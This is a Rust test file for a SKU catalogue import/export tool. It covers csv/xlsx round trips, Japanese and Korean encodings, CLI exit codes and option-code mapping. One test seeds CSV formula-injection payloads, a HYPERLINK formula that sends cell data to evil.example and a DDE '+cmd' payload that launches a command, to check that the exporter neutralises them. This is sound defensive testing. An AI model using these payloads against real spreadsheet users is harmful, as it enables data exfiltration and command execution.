//! SKU catalogue import / export: round trips through csv and xlsx, a workbook written by
//! openpyxl, text encodings, near-miss warnings, the CLI, formula-safe cells and rows with both
//! codes (files the import refuses are in `sku_import_refusals.rs`).

mod common;

use std::path::{Path, PathBuf};

use common::catalogue::{mapping, run, seed, shipdeck, sku, snapshot, store};

use shipdeck::catalogue::import::{self, ImportOptions};
use shipdeck::catalogue::{export, TextEncoding};
use shipdeck::domain::mapping::SiteCode;
use shipdeck::domain::{Site, SkuCode};
use shipdeck::store::Store;

#[test]
fn export_then_import_gives_the_same_catalogue_and_mappings() {
    for ext in ["csv", "xlsx"] {
        let (tmp, a) = store();
        seed(&a);
        let path = tmp.path().join(format!("catalogue.{ext}"));
        let exported = export::export(&a, &path).unwrap();
        assert_eq!((exported.skus, exported.mappings), (5, 6), "{ext}");
        if ext == "csv" {
            assert!(tmp.path().join("catalogue.mismatches.csv").exists());
        }
        let mut want = snapshot(&a);
        // An empty option name is not kept apart from none.
        want.0[2].option_name = None;
        let (_tmp2, b) = store();
        let report = run(&b, &path, None);
        assert!(report.ok(), "{ext}: {report}");
        assert!(report.applied);
        assert_eq!((report.skus_new, report.mappings_new), (5, 6), "{ext}: {report}");
        assert_eq!(snapshot(&b), want, "{ext}");
        // Again into the same store: nothing changes.
        let again = run(&b, &path, None);
        assert_eq!(
            (again.skus_new, again.skus_changed, again.skus_unchanged),
            (0, 0, 5),
            "{ext}: {again}"
        );
        assert_eq!(
            (
                again.mappings_new,
                again.mappings_changed,
                again.mappings_unchanged
            ),
            (0, 0, 6)
        );
        assert_eq!(snapshot(&b), want, "{ext}");
        // Near misses are reported, not fixed.
        assert!(
            report
                .warnings
                .iter()
                .any(|w| w.message.contains("only by width")),
            "{ext}: {report}"
        );
        assert!(
            report
                .warnings
                .iter()
                .any(|w| w.message.contains("ホワイト, Sサイズ ")
                    && w.column
                        .as_deref()
                        .unwrap_or("")
                        .contains("crossmall option text")),
            "{ext}: {report}"
        );
    }
}

#[test]
fn reserved_quantities_survive_an_import() {
    let (tmp, s) = store();
    let mut one = sku("R-1", "r", None, 10);
    one.reserved = 4;
    s.put_sku(&one).unwrap();
    let p = tmp.path().join("r.csv");
    std::fs::write(&p, "sku code,sku name,on hand\nR-1,r,20\n").unwrap();
    let report = run(&s, &p, None);
    assert_eq!(report.skus_changed, 1, "{report}");
    let got = s.get_sku(&SkuCode::new("R-1").unwrap()).unwrap().unwrap();
    assert_eq!((got.on_hand, got.reserved), (20, 4));
}

fn fixture(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures")
        .join(name)
}

#[test]
fn an_xlsx_written_by_openpyxl_imports() {
    let (_tmp, s) = store();
    let report = run(&s, &fixture("sku_openpyxl.xlsx"), None);
    assert!(report.ok(), "{report}");
    assert_eq!(report.format, "xlsx");
    assert_eq!(report.rows, 5, "{report}");
    assert_eq!((report.skus_new, report.mappings_new), (3, 4), "{report}");
    let (skus, maps) = snapshot(&s);
    let ts = skus.iter().find(|k| k.code.as_str() == "TS-W-S").unwrap();
    assert_eq!(
        (ts.name.as_str(), ts.option_name.as_deref(), ts.on_hand),
        ("Tシャツ 白", Some("Sサイズ"), 12)
    );
    let cap = skus.iter().find(|k| k.code.as_str() == "CAP-9").unwrap();
    assert_eq!(cap.on_hand, 340);
    assert!(maps.contains(&mapping(
        Site::Crossmall,
        None,
        SiteCode::Crossmall {
            item_code: "1001".into(),
            item_name: "Tシャツ 白".into(),
            option_text: "ホワイト,Sサイズ".into(),
        },
        "TS-W-S"
    )));
    assert!(maps.contains(&mapping(
        Site::Auction,
        None,
        SiteCode::Product { code: "2001".into() },
        "MUG-01"
    )));
    assert!(maps.contains(&mapping(
        Site::Qoo10,
        Some("qoo-jp"),
        SiteCode::Option {
            code: "OPT-W-S".into()
        },
        "TS-W-S"
    )));
    // The shop is not connected: said, and kept.
    assert!(
        report.warnings.iter().any(|w| w.message.contains("qoo-jp")),
        "{report}"
    );
}

#[test]
fn a_mapping_only_row_may_name_a_stored_sku() {
    let (tmp, s) = store();
    seed(&s);
    let p = tmp.path().join("m.csv");
    std::fs::write(
        &p,
        "sku code,site,shop,option code\n007,LotteON,,LO-7\nABC-01,lotteon,,LO-1\n",
    )
    .unwrap();
    let r = run(&s, &p, None);
    assert!(r.ok(), "{r}");
    assert_eq!((r.mappings_new, r.mappings_changed, r.skus_new), (1, 1, 0), "{r}");
    assert_eq!(
        s.list_mappings(Some(Site::Lotteon)).unwrap().len(),
        2,
        "LO-1 now leads to ABC-01 and LO-7 is new"
    );
}

#[test]
fn dry_run_plans_without_writing() {
    let (tmp, s) = store();
    let p = tmp.path().join("d.csv");
    std::fs::write(&p, "sku code,sku name,on hand\nA,a,1\n").unwrap();
    let plan = import::plan(&s, &p, &ImportOptions::default()).unwrap();
    assert_eq!(plan.report.skus_new, 1);
    assert!(s.list_skus().unwrap().is_empty());
}

#[test]
fn shift_jis_and_cp949_files_are_detected_or_chosen() {
    let (tmp, s) = store();
    let (sjis, _, bad) =
        encoding_rs::SHIFT_JIS.encode("SKUコード,商品名,オプション名,在庫数\nJ-1,Tシャツ,白,3\n");
    assert!(!bad);
    let p = tmp.path().join("sjis.csv");
    std::fs::write(&p, &sjis).unwrap();
    let r = run(&s, &p, None);
    assert!(r.ok(), "{r}");
    assert_eq!(r.format, "csv (shift_jis)");
    let (kr, _, bad) = encoding_rs::EUC_KR.encode("판매자코드,상품명,옵션명,재고\nK-1,티셔츠,흰색,4\n");
    assert!(!bad);
    let p2 = tmp.path().join("kr.csv");
    std::fs::write(&p2, &kr).unwrap();
    let r = run(&s, &p2, Some(TextEncoding::Cp949));
    assert!(r.ok(), "{r}");
    assert_eq!(r.format, "csv (cp949)");
    let r = run(&s, &p2, None);
    assert_eq!(r.format, "csv (cp949)", "{r}");
    let names: Vec<String> = s.list_skus().unwrap().into_iter().map(|k| k.name).collect();
    assert_eq!(names, ["Tシャツ", "티셔츠"]);
    // Forced wrongly: refused, nothing written.
    let r = run(&s, &p, Some(TextEncoding::Utf8));
    assert!(!r.ok() && !r.applied, "{r}");
    assert!(r.errors[0].message.contains("UTF-8"), "{r}");
}

#[test]
fn cli_sku_import_and_export() {
    let tmp = tempfile::tempdir().unwrap();
    let home = tmp.path();
    let bad = home.join("bad.csv");
    std::fs::write(&bad, "sku code,sku name,on hand\nA,a,1\nB,b,many\n").unwrap();
    let out = shipdeck(home, &["sku", "import", bad.to_str().unwrap()]);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(2), "{stdout}");
    assert!(stdout.contains("row 3, column on hand"), "{stdout}");
    let good = home.join("good.csv");
    std::fs::write(
        &good,
        "sku code,sku name,on hand,site,product code\nA,a,1,grip,P-A\n",
    )
    .unwrap();
    let out = shipdeck(
        home,
        &["sku", "import", "--dry-run", "--json", good.to_str().unwrap()],
    );
    assert_eq!(out.status.code(), Some(0));
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(
        (report["skus_new"].as_u64(), report["applied"].as_bool()),
        (Some(1), Some(false))
    );
    let out = shipdeck(home, &["sku", "import", "--json", good.to_str().unwrap()]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(report["applied"].as_bool(), Some(true));
    let x = home.join("out.xlsx");
    let out = shipdeck(home, &["sku", "export", x.to_str().unwrap()]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let out = shipdeck(home, &["sku", "import", "--json", x.to_str().unwrap()]);
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(
        (
            report["skus_unchanged"].as_u64(),
            report["mappings_unchanged"].as_u64()
        ),
        (Some(1), Some(1)),
        "{report}"
    );
    let out = shipdeck(
        home,
        &["sku", "import", "--encoding", "latin1", good.to_str().unwrap()],
    );
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn exported_csv_cells_never_run_as_formulas_and_import_back_unchanged() {
    let (tmp, a) = store();
    let evil = "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")";
    a.put_sku(&sku("EV-1", evil, Some("+cmd|' /C calc'!A0"), 3))
        .unwrap();
    a.put_sku(&sku("EV-2", "@SUM(1)", Some("'=quoted already"), 1))
        .unwrap();
    a.put_mapping(&mapping(
        Site::Grip,
        None,
        SiteCode::Product { code: "-1+1".into() },
        "EV-1",
    ))
    .unwrap();
    let path = tmp.path().join("evil.csv");
    export::export(&a, &path).unwrap();
    let text = std::fs::read_to_string(&path).unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    for rec in reader.records() {
        for cell in rec.unwrap().iter() {
            assert!(
                !cell.starts_with(['=', '+', '@']) && (!cell.starts_with('-') || cell.parse::<f64>().is_ok()),
                "a cell a spreadsheet would run: {cell:?}"
            );
        }
    }
    assert!(text.contains("'=HYPERLINK"), "{text}");
    let (_tmp2, b) = store();
    let report = run(&b, &path, None);
    assert!(report.ok(), "{report}");
    assert_eq!(snapshot(&b), snapshot(&a));
}

#[test]
fn a_row_with_both_codes_maps_by_option_code_keeps_the_product_code_and_says_how_rows_match() {
    let tmp = tempfile::tempdir().unwrap();
    let store = Store::open(&tmp.path().join("db")).unwrap();
    let p = tmp.path().join("both.csv");
    std::fs::write(
        &p,
        "sku code,sku name,option name,on hand,site,shop,product code,option code\n\
         TS-RED-M,T-shirt,red M,5,qoo10,,TS-100,TS-100-RM\n\
         MUG,Mug,,3,qoo10,,MUG-1,\n\
         CAP,Cap,,2,gmarket,,,CAP-OPT\n",
    )
    .unwrap();
    let r = import::apply(
        &store,
        import::plan(&store, &p, &ImportOptions::default()).unwrap(),
    )
    .unwrap();
    assert!(r.ok(), "{r}");
    assert!(r.applied);
    let m = store.list_mappings(None).unwrap();
    let both = m.iter().find(|m| m.sku.as_str() == "TS-RED-M").unwrap();
    assert_eq!(
        both.code,
        SiteCode::Option {
            code: "TS-100-RM".into()
        }
    );
    assert_eq!(both.product_code.as_deref(), Some("TS-100"));
    // The report says how each row will match.
    let rule = |k: &str| r.matching.get(k).copied().unwrap_or(0);
    assert_eq!(
        rule("by option code, where the line's product code is the one given"),
        1,
        "{r}"
    );
    assert_eq!(rule("by product code"), 1, "{r}");
    assert_eq!(rule("by option code"), 1, "{r}");
    let text = r.to_string();
    assert!(
        text.contains(
            "1 mapping rows match order lines by option code, where the line's product code is the one given"
        ),
        "{text}"
    );
    // The export writes the kept product code back, and reads back unchanged.
    let out = tmp.path().join("out.csv");
    export::export(&store, &out).unwrap();
    let exported = std::fs::read_to_string(&out).unwrap();
    assert!(
        exported
            .lines()
            .any(|l| l.contains("TS-100") && l.contains("TS-100-RM")),
        "{exported}"
    );
    let again = import::plan(&store, &out, &ImportOptions::default())
        .unwrap()
        .report;
    assert_eq!((again.mappings_new, again.mappings_changed), (0, 0), "{again}");
}
